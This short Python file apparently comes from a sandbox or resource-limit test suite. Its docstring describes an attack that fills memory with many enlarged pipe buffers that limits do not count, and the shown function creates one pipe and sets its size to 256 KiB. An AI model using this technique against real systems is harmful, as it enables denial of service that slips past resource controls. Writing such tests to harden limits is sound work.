"""Fills memory by many wide pipes, which no limit counts."""

import fcntl
import os


def attack(target):
    _, writing = os.pipe()
    fcntl.fcntl(writing, 1031, 1 << 18)
